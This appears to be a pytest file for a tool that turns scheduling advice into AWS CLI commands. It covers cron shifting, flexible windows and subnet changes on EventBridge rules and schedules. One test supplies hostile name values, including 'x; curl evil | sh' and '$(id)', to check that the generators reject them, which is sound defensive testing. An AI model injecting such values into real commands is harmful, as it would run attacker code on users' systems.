"""How advice is put into effect: expressions, commands that are run here through jq, and names that are none."""

from __future__ import annotations

import json
import shutil
import subprocess
import tomllib
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest

from retry_run_task.commands.report import changes
from retry_run_task.commands.report.jobs import Job
from retry_run_task.commands.shared.inventory import Launcher
from retry_run_task.config import policy_of, read_policy
from retry_run_task.launch.values import CallerKind

SCHEDULE = {
    "Arn": "arn:aws:scheduler:ap-northeast-1:123456789012:schedule/default/nightly",
    "GroupName": "default",
    "Name": "nightly",
    "Description": "of the day's orders",
    "ScheduleExpression": "cron(0 0 * * ? *)",
    "ScheduleExpressionTimezone": "Asia/Tokyo",
    "State": "ENABLED",
    "FlexibleTimeWindow": {"Mode": "OFF"},
    "CreationDate": "2026-01-01T00:00:00+00:00",
    "LastModificationDate": "2026-01-01T00:00:00+00:00",
    "Target": {
        "Arn": "arn:aws:ecs:ap-northeast-1:123456789012:cluster/batch",
        "Input": '{"a": "it\'s"}',
        "EcsParameters": {"NetworkConfiguration": {"awsvpcConfiguration": {"Subnets": ["subnet-a"]}}},
    },
}
RULE = {
    "Name": "nightly",
    "Arn": "arn:aws:events:ap-northeast-1:123456789012:rule/nightly",
    "ScheduleExpression": "cron(0 0 * * ? *)",
    "State": "ENABLED",
    "Description": "of the day's orders",
    "EventBusName": "default",
    "CreatedBy": "123456789012",
}
TARGETS = {
    "Targets": [
        {"Id": "1", "Arn": "cluster", "EcsParameters": SCHEDULE["Target"]["EcsParameters"]},  # type: ignore[index]
        {"Id": "2", "Arn": "queue"},
    ]
}


AWS = """#!/bin/sh
echo "$@" >> "$HOME/calls"
case "$2" in update-*|put-*) ;; *) cat "$HOME/read.json" ;; esac
"""


def job(kind: CallerKind = CallerKind.SCHEDULER, **changes: Any) -> Job:
    known = {"name": "nightly", "expression": "cron(0 0 * * ? *)"} | changes
    return Job(name=known["name"], kind=kind, launcher=Launcher(kind=kind, **known))


def written(commands: str, read: dict[str, Any], tmp_path: Path) -> tuple[str, dict[str, Any]]:
    """Run commands with an ``aws`` that prints what is read; return what is written, and by which words."""
    if shutil.which("jq") is None:
        pytest.skip("there is no jq here, so no command was run; install it with: apt-get install jq")
    (tmp_path / "read.json").write_text(json.dumps(read))
    aws = tmp_path / "aws"
    aws.write_text(
        '#!/bin/sh\necho "$@" >> "$HOME/calls"\ncase "$2" in update-*|put-*) ;; *) cat "$HOME/read.json";; esac\n'
    )
    aws.chmod(0o755)
    environment = {"PATH": f"{tmp_path}:/usr/bin:/bin", "HOME": str(tmp_path)}
    subprocess.run(["sh", "-ec", commands], check=True, cwd=tmp_path, env=environment)
    *_, last = (tmp_path / "calls").read_text().splitlines()
    words, _, file = last.partition(" --cli-input-json file://")
    return words, json.loads((tmp_path / file).read_text())


@pytest.mark.parametrize(
    ("expression", "minutes", "expected"),
    [
        ("cron(0 0 * * ? *)", 20, "cron(20 0 * * ? *)"),
        ("cron(50 0 * * ? *)", 20, "cron(10 1 * * ? *)"),
        ("cron(0 9 ? * MON-FRI *)", 60, "cron(0 10 ? * MON-FRI *)"),
        ("cron(50 * * * ? *)", 20, "cron(10 * * * ? *)"),
        # Another day: another weekday, or another month.
        ("cron(50 23 ? * MON *)", 20, None),
        # Several minutes or hours, or what is no cron.
        ("cron(0,30 0 * * ? *)", 5, None),
        ("cron(0/15 0 * * ? *)", 5, None),
        ("cron(0 0,12 * * ? *)", 5, None),
        ("rate(1 day)", 5, None),
        ("at(2026-11-24T00:00:00)", 5, None),
        ("", 5, None),
    ],
)
def test_an_expression_is_moved_only_if_its_days_stay(
    expression: str, minutes: int, expected: str | None
) -> None:
    assert changes.shifted(expression, minutes) == expected


def test_a_schedule_is_moved_and_keeps_everything_else(tmp_path: Path) -> None:
    change = changes.move(job(), 15)
    assert change is not None
    assert change.code == 'schedule_expression = "cron(15 0 * * ? *)"'
    words, body = written(change.commands, SCHEDULE, tmp_path)
    assert words == "scheduler update-schedule"
    dropped = ("Arn", "CreationDate", "LastModificationDate")
    assert body == {name: value for name, value in SCHEDULE.items() if name not in dropped} | {
        "ScheduleExpression": "cron(15 0 * * ? *)"
    }


def test_a_rule_is_moved_and_keeps_everything_else(tmp_path: Path) -> None:
    change = changes.move(job(CallerKind.RULE), 15)
    assert change is not None
    words, body = written(change.commands, RULE, tmp_path)
    assert words == "events put-rule"
    assert body == {name: value for name, value in RULE.items() if name not in ("Arn", "CreatedBy")} | {
        "ScheduleExpression": "cron(15 0 * * ? *)"
    }


def test_a_schedule_gets_a_window_and_a_rule_has_none(tmp_path: Path) -> None:
    change = changes.window(job(), 30)
    assert change is not None
    _, body = written(change.commands, SCHEDULE, tmp_path)
    assert body["FlexibleTimeWindow"] == {"Mode": "FLEXIBLE", "MaximumWindowInMinutes": 30}
    assert body["Target"] == SCHEDULE["Target"]
    assert changes.window(job(CallerKind.RULE), 30) is None


def test_a_subnet_is_added_to_the_target_that_has_subnets(tmp_path: Path) -> None:
    change = changes.subnet(job(CallerKind.RULE), ("subnet-a",), "subnet-d")
    assert change is not None
    assert change.code == 'subnets = ["subnet-a", "subnet-d"]'
    words, body = written(change.commands, TARGETS, tmp_path)
    assert words == "events put-targets"
    assert (body["Rule"], body["EventBusName"]) == ("nightly", "default")
    one, two = body["Targets"]
    assert one["EcsParameters"]["NetworkConfiguration"]["awsvpcConfiguration"]["Subnets"] == [
        "subnet-a",
        "subnet-d",
    ]
    assert two == {"Id": "2", "Arn": "queue"}
    change = changes.subnet(job(), ("subnet-a",), "subnet-d")
    assert change is not None
    _, body = written(change.commands, SCHEDULE, tmp_path)
    network = body["Target"]["EcsParameters"]["NetworkConfiguration"]["awsvpcConfiguration"]
    assert network == {"Subnets": ["subnet-a", "subnet-d"]}


@pytest.mark.parametrize("name", ["x; curl evil | sh", "$(id)", "a'b", "a\nb", '"', "", "n" * 65])
def test_what_is_no_name_of_aws_is_in_no_command(name: str) -> None:
    for kind in (CallerKind.RULE, CallerKind.SCHEDULER):
        for one in (job(kind, name=name), job(kind, holder=name)):
            made = changes.move(one, 15)
            assert made is not None
            assert made.commands == ""
            added = changes.subnet(one, ("subnet-a",), "subnet-b")
            assert added is not None
            assert added.commands == ""
    assert changes.rule("tried", (name,), ('deadline = "1 h"',)) is None
    assert changes.subnet(job(), ("subnet-a",), f"subnet-{name} ") is None


def test_without_the_schedule_there_is_no_command() -> None:
    unknown = Job(name="nightly", kind=CallerKind.RULE)
    assert changes.move(unknown, 5) is None
    assert changes.window(unknown, 15) is None
    assert changes.subnet(unknown, ("subnet-a",), "subnet-b") is None


@pytest.mark.parametrize("jobs", [("nightly",), ("nightly", "weekly.report")])
def test_a_rule_of_the_policy_is_one(jobs: tuple[str, ...]) -> None:
    change = changes.rule("within 1 h", jobs, ('deadline = "1 h"',))
    assert change is not None
    assert tomllib.loads(change.code)["rules"][0]["match"]["schedule"] in (list(jobs), *jobs)
    policy = policy_of(change.code.encode() + b"\n" + _default_rules(), "policy.toml")
    assert len(policy.rules) == len(read_policy().rules) + 1


def _default_rules() -> bytes:
    text = files("retry_run_task").joinpath("policy.toml").read_text()
    return ("[[rules]]" + text.partition("\n[[rules]]")[2]).encode()
